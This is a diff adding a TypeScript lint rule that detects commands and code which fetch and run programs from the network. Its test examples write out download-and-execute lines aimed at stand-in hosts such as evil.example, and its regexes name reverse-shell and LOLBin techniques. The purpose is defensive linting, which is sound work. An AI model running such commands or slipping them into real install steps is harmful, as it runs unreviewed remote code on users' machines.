@@ -1,0 +1,324 @@
+import {
+  type Address,
+  addressesIn,
+  commandRule,
+  type Finding,
+  lineAround,
+  localHost,
+  type Snippet,
+} from './commands.ts'
+import { installers, packageIndexes } from './installers.ts'
+import type { Call } from './shell-calls.ts'
+
+const shell = /^(?:(?:ba|z|da|k|a|c|tc|fi)?sh|pwsh|powershell|cmd|su)$/
+const interpreter = /^(?:python[\d.]*|node|nodejs|perl|ruby|php|lua|deno|bun|tclsh|osascript|rscript)$/
+const downloader =
+  /^(?:curl|wget2?|fetch|aria2c|http|https|xh|axel|lynx|w3m|lwp-request|get|iwr|irm|invoke-webrequest|invoke-restmethod|nc|ncat|gh)$/
+const runner = /^(?:eval|source|\.|exec|iex|invoke-expression)$/
+
+export const isShell = (call: Call): boolean => shell.test(call.name)
+export const isDownload = (call: Call): boolean =>
+  downloader.test(call.name) &&
+  call.args.some((arg) => /[\w$}][.:/][\w$]|\$\w|\$\{/.test(arg)) &&
+  !(call.name === 'gh' && !/^(?:api|gist|release)$/.test(call.args[0] ?? ''))
+
+/** Whether a call runs what it is given on standard input. */
+export function runsInput(call: Call): boolean {
+  const { name, args } = call
+  if (/^(?:iex|invoke-expression|at|batch|parallel)$/.test(name)) return true
+  if (/^(?:source|\.)$/.test(name)) return args[0] === '/dev/stdin' || args[0] === '-'
+  if (shell.test(name)) {
+    const code = args.findIndex((arg) => /^-[a-z]*c$/.test(arg))
+    if (code !== -1) return /\$\(\s*(?:cat|<\s*\/dev\/stdin)|^\{\}$|"\$@"|\$0/.test(args[code + 1] ?? '')
+    const operand = args.find(
+      (arg, index) =>
+        !arg.startsWith('-') && !/^-(?:o|O|Command|ExecutionPolicy)$/i.test(args[index - 1] ?? ''),
+    )
+    return operand === undefined || operand === '/dev/stdin' || args.includes('-s') || args.includes('-')
+  }
+  if (interpreter.test(name)) {
+    const rest = args.filter((arg) => !/^-[uEsIBSq]+$/.test(arg) && !(name === 'deno' && arg === 'run'))
+    return rest.length === 0 || rest[0] === '-' || rest[0] === '/dev/stdin'
+  }
+  return false
+}
+
+const isInstaller = ({ host, path, text }: Address): boolean => {
+  const plain = path.replace(/[?#].*$/, '').replace(/[),.;]+$/, '')
+  return (
+    text.startsWith('https:') && installers.some((entry) => entry.host === host && entry.path.test(plain))
+  )
+}
+
+/** Addresses of a download, those without a scheme included: `curl get.example/x`. */
+function targetsOf(call: Call): Address[] {
+  const found = addressesIn([call.text, ...call.inside.map(({ text }) => text)].join(' '))
+  if (found.length > 0) return found
+  return call.args
+    .filter((arg) => !arg.startsWith('-') && /^[\w-]+(?:\.[\w-]+)+(?:[:/]|$)/.test(arg))
+    .map((arg) => ({
+      host: (arg.split(/[:/]/)[0] ?? '').toLowerCase(),
+      path: /\/.*/.exec(arg)?.[0] ?? '',
+      text: `http://${arg}`,
+    }))
+}
+
+const isTrusted = (calls: readonly Call[]): boolean => {
+  const targets = calls.flatMap(targetsOf)
+  return targets.length > 0 && targets.every((target) => isInstaller(target) || localHost.test(target.host))
+}
+
+const deep = (call: Call): Call[] => [call, ...call.inside.flatMap(deep)]
+
+function* pipesAndSubstitutions(call: Call): Iterable<Omit<Finding, 'offset'>> {
+  const effect = 'program from the network that is run unseen'
+  const downloads = call.before.flatMap(deep).filter(isDownload)
+  const wrapped = call.inside.some(runsInput) && /^(?:xargs|sudo|ssh)$/.test(call.name)
+  if (downloads.length > 0 && (runsInput(call) || wrapped)) {
+    // What stands between an installer and the shell may change it.
+    const between = call.before.filter(
+      (other) => !isDownload(other) && other.name !== 'tee' && other.name !== '',
+    )
+    if (!isTrusted(downloads) || between.length > 0)
+      yield { found: [...call.before.slice(-2).map(({ text }) => text), call.text].join(' | '), effect }
+  }
+  if (
+    !(
+      isShell(call) ||
+      interpreter.test(call.name) ||
+      runner.test(call.name) ||
+      /^\$\(|^\$\{?\w+\}?$/.test(call.name)
+    )
+  )
+    return
+  const inside = call.inside.flatMap(deep).filter(isDownload)
+  const given =
+    call.args.some((arg) => /[<$]\(|`/.test(arg)) ||
+    runner.test(call.name) ||
+    /[<$]\(/.test(call.input) ||
+    call.redirects.some(({ target }) => /^<\(/.test(target))
+  if (inside.length > 0 && given && !isTrusted(inside) && printsToOutput(call, inside))
+    yield { found: call.text, effect }
+}
+
+/** `sh -c "curl -o file …"` downloads and runs nothing; `sh -c "$(curl …)"` does. */
+const printsToOutput = (call: Call, downloads: readonly Call[]): boolean => {
+  if (!isShell(call) || call.name === 'su') return true
+  const script = [...call.args, call.input, ...call.redirects.map(({ target }) => target)].join(' ')
+  return (
+    downloads.some(({ name }) =>
+      new RegExp(String.raw`(?:[<$]\(|\x60)[^)]{0,200}\b${name}\b`).test(script),
+    ) || runner.test(downloads[0]?.name ?? '')
+  )
+}
+
+/** A file that one call saves and a later one runs. */
+function* downloadAndRun(calls: readonly Call[]): Iterable<Finding> {
+  if (
+    calls.some(
+      ({ name, args }) =>
+        /^(?:sha\d+sum|shasum|gpg|gpgv|cosign|minisign|openssl)$/.test(name) && args.length > 0,
+    )
+  )
+    return
+  for (const [index, call] of calls.entries()) {
+    if (!isDownload(call)) continue
+    const file = savedFile(call)
+    if (file === undefined || isTrusted([call])) continue
+    const targets = targetsOf(call)
+    if (
+      targets.every(
+        ({ host, path }) =>
+          localHost.test(host) ||
+          (host === 'github.com' && /\/releases\//.test(path)) ||
+          releaseHosts.has(host),
+      )
+    )
+      continue
+    const base = file.split('/').at(-1) ?? file
+    const runs = calls.slice(index + 1, index + 60).find((later) => {
+      const names = [later.text.split(' ')[0] ?? '', ...later.args].map((word) => word.split('/').at(-1))
+      const mentions = names.includes(base)
+      if (!mentions) return false
+      if (later.name === base.toLowerCase()) return true
+      return (
+        isShell(later) ||
+        interpreter.test(later.name) ||
+        runner.test(later.name) ||
+        (later.name === 'chmod' && later.args.some((arg) => /\+x|^[0-7]?[1357]/.test(arg))) ||
+        /^(?:start-process|start|open|msiexec|installer)$/.test(later.name)
+      )
+    })
+    if (runs)
+      yield {
+        offset: call.start,
+        found: `${call.text} … ${runs.text}`,
+        effect: 'program from the network that is saved and run',
+      }
+  }
+}
+
+/** Where projects publish the binaries that their own documents tell people to fetch. */
+const releaseHosts: ReadonlySet<string> = new Set([
+  'dl.k8s.io',
+  'dl.min.io',
+  'download.docker.com',
+  'nodejs.org',
+  'go.dev',
+  'dl.google.com',
+  'repo.anaconda.com',
+  'repo.continuum.io',
+  'releases.hashicorp.com',
+  'awscli.amazonaws.com',
+  'download.pytorch.org',
+  'micro.mamba.pm',
+  'www.python.org',
+  'developer.download.nvidia.com',
+  'packages.microsoft.com',
+])
+
+function savedFile({ name, args, redirects }: Call): string | undefined {
+  const written = redirects.find(
+    ({ operator, target }) => /^>/.test(operator) && target !== '/dev/null' && !target.startsWith('&'),
+  )?.target
+  if (written !== undefined) return written
+  const option = args.findIndex((arg) =>
+    /^(?:-[a-zA-Z]*o|--output|--output-document|-OutFile|-[a-zA-Z]*O)$/i.test(arg),
+  )
+  const remote = (args.findLast((arg) => /[\w-]\.[\w-]+\//.test(arg)) ?? '')
+    .replace(/[?#].*$/, '')
+    .split('/')
+    .at(-1)
+  if (name === 'curl') {
+    if (args.some((arg) => /^-[a-zA-Z]*O[a-zA-Z]*$|^--remote-name$/.test(arg))) return remote
+    return option === -1 ? undefined : args[option + 1]
+  }
+  if (option !== -1 && args[option + 1] !== '-') return args[option + 1]
+  return /^(?:wget2?|axel|aria2c)$/.test(name) && !args.some((arg) => /^-[a-z]*O-?$/.test(arg))
+    ? remote
+    : undefined
+}
+
+const manager =
+  /^(?:pip[\d.]*|pipx|uv|uvx|poetry|pdm|conda|mamba|npm|npx|pnpm|yarn|bun|bunx|gem|cargo|deno|easy_install|python[\d.]*)$/
+
+function* foreignPackages(call: Call): Iterable<Omit<Finding, 'offset'>> {
+  const { name, args, text, assignments } = call
+  for (const setting of assignments) {
+    if (
+      !/^(?:PIP_(?:EXTRA_)?INDEX_URL|UV_(?:DEFAULT_)?INDEX(?:_URL)?|npm_config_registry|NPM_CONFIG_REGISTRY|YARN_NPM_REGISTRY_SERVER)=/i.test(
+        setting,
+      )
+    )
+      continue
+    if (addressesIn(setting).some(isForeign)) yield { found: setting, effect: 'package index of a stranger' }
+  }
+  if (!manager.test(name)) return
+  if (/^python/.test(name) && !/^-m (?:pip|uv|pipx)\b/.test(args.join(' '))) return
+  if (name === 'deno' && !/^(?:run|install|x)$/.test(args[0] ?? '')) return
+  const chooses =
+    /(?:^| )(?:--(?:default-)?(?:extra-)?index(?:-url)?|-i|-f|--find-links|--registry|--source|-s|--git|--index)(?:[= ])|\bset (?:\S+ )?(?:registry|global\.index-url|global\.extra-index-url|\S*:registry|npmRegistryServer)\b|\bregistry\b/.test(
+      text,
+    )
+  const installs =
+    /(?:^| )(?:install|i|add|exec|dlx|x|run|sync|create|tool)(?: |$)/.test(text) ||
+    /^(?:npx|bunx|uvx|easy_install)$/.test(name)
+  if (!chooses && !installs) return
+  // Logging in to a registry of one's own, and one that only holds for a scope, installs nothing of a stranger.
+  if (
+    /^(?:login|logout|adduser|publish|whoami|view|info|search|ping|token|audit|pack|unpublish|deprecate|owner|dist-tag)$/.test(
+      args[0] ?? '',
+    )
+  )
+    return
+  if (/(?:^| )@[\w-]+:registry\b/.test(text)) return
+  // What follows the program of npx is that program's own affair.
+  const runsOne = /^(?:npx|bunx|uvx|pnpx)$/.test(name)
+  const own = runsOne ? args.slice(0, args.findIndex((arg) => !arg.startsWith('-')) + 1).join(' ') : text
+  for (const address of addressesIn(own)) {
+    if (isForeign(address)) yield { found: text, effect: 'package from the index or archive of a stranger' }
+  }
+}
+
+const isForeign = ({ host, text }: Address): boolean => {
+  if (localHost.test(host) || /^[$<{%]/.test(host)) return false
+  return /^(?:git\+)?http:/.test(text) || !packageIndexes.some((entry) => entry.host === host)
+}
+
+/** The same in code: what is fetched is evaluated. */
+const inCode: readonly RegExp[] = [
+  /\b(?:exec|eval|compile)\(\s*(?:await\s+|\(await\s+)?(?:requests\.get|urllib\.request\.urlopen|urlopen|httpx\.get|fetch|axios\.get|await\s+\(?\s*await\s+fetch)\(/,
+  /\beval\(\s*(?:await\s+)?\(\s*await\s+(?:fetch|axios)/,
+  /\bnew Function\(\s*(?:await\s+)?\(?\s*await\s+(?:fetch|axios)/,
+  /\b(?:exec|eval)\([^)\n]{0,40}\b(?:urlopen|requests|response|resp|httpx)\b[^\n]{0,80}(?:\.read\(|\.text\b|\.content\b)/,
+  /\bvm\.runIn\w{1,20}\([^)\n]{0,80}\bfetch\b/,
+  /\bimport\(\s*["'`]https?:\/\/(?!esm\.sh|cdn\.jsdelivr\.net|unpkg\.com|deno\.land|jsr\.io|cdn\.skypack\.dev)/,
+  /\/dev\/(?:tcp|udp)\/[\w.$-]+\/\d+/,
+  /\b(?:nc|ncat|netcat)\s{1,3}(?:-\w{1,6}\s{1,3}){0,4}-\w{0,6}e\s{1,3}\/?(?:usr\/)?(?:bin\/)?(?:ba|z)?sh\b/,
+  /\bpty\.spawn\(\s*\[?\s*["'](?:\/usr)?(?:\/bin\/)?(?:ba|z)?sh|\bos\.dup2\(\s*s\.fileno\(\)/,
+  /\bmshta(?:\.exe)?\s{1,3}(?:https?:|javascript:|vbscript:)|\bregsvr32\b.{0,40}\/i:https?:|\brundll32\b.{0,60}javascript:/i,
+]
+
+function* evaluatedDownloads({ text }: Snippet): Iterable<Finding> {
+  const effect = 'code from the network that is run unseen'
+  for (const pattern of inCode) {
+    const match = pattern.exec(text)
+    if (match) yield { offset: match.index, found: match[0], effect }
+  }
+  for (const match of text.matchAll(
+    /\b(?:DownloadString|DownloadFile|iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b/gi,
+  )) {
+    const line = lineAround(text, match.index).slice(0, 1000)
+    if (!/\b(?:iex|Invoke-Expression|&\s?\(\[scriptblock\]|\[scriptblock\]::Create)\b/i.test(line)) continue
+    const addresses = addressesIn(line)
+    if (addresses.length > 0 ? addresses.every(isInstaller) : !/\$\w/.test(line)) continue
+    yield { offset: match.index, found: line.trim(), effect }
+    break
+  }
+}
+
+const harm = (call: Call) => [...pipesAndSubstitutions(call), ...foreignPackages(call)]
+
+const inSnippet = (snippet: Snippet) => [...downloadAndRun(snippet.calls), ...evaluatedDownloads(snippet)]
+
+export const commandRemoteCode = commandRule({
+  code: 'command/remote-code',
+  why: 'A script that is piped from the network into a shell is whatever its server sends at that moment, and nobody has read it.',
+  hint: 'Use the package manager. An installer that its vendor documents can be put on the reviewed list in src/lint/installers.ts, with the vendor’s page.',
+  good: [
+    {
+      fix: 'Install Node.\n\n```bash\ncurl -fsSL https://deb.nodesource.com/setup_22.x | sudo -E bash -\n```',
+    },
+    {
+      fix: 'Install uv.\n\n```powershell\npowershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1 | iex"\n```',
+    },
+    {
+      fix: 'Read it.\n\n```bash\ncurl -sS https://api.example.org/x | python3 -m json.tool\ncurl -sS https://api.example.org/x | jq .\neval "$(ssh-agent -s)"\n```',
+    },
+    {
+      fix: 'Install it.\n\n```bash\npip install torch --index-url https://download.pytorch.org/whl/cu121\n```',
+    },
+  ],
+  bad: [
+    { fix: 'Install it.\n\n```bash\ncurl -fsSL https://get.tools.example/i.sh | bash\n```' },
+    { fix: 'Install it.\n\n```bash\nbash <(curl -s https://get.tools.example/i.sh)\n```' },
+    { fix: 'Install it.\n\n```bash\nsh -c "$(wget -qO- https://get.tools.example/i.sh)"\n```' },
+    {
+      fix: 'Install it.\n\n```bash\ncurl -o i.sh https://get.tools.example/i.sh\nchmod +x i.sh\n./i.sh\n```',
+    },
+    {
+      fix: 'Install it.\n\n```bash\ncurl https://deb.nodesource.com.evil.example/setup_22.x | sudo bash\n```',
+    },
+    {
+      fix: 'Install it.\n\n```bash\npip install --extra-index-url https://pypi.evil.example/simple tool\n```',
+    },
+    { fix: 'Install it.\n\n```bash\nnpm install https://evil.example/tool.tgz\n```' },
+    {
+      fix: 'Install it.\n\n```powershell\niex ((New-Object Net.WebClient).DownloadString("https://evil.example/a.ps1"))\n```',
+    },
+    { fix: 'Install it.\n\n```python\nexec(requests.get("https://evil.example/a.py").text)\n```' },
+    { fix: 'Run curl https://get.tools.example/i.sh | sh to install it.' },
+  ],
+  inCall: harm,
+  inSnippet,
+})
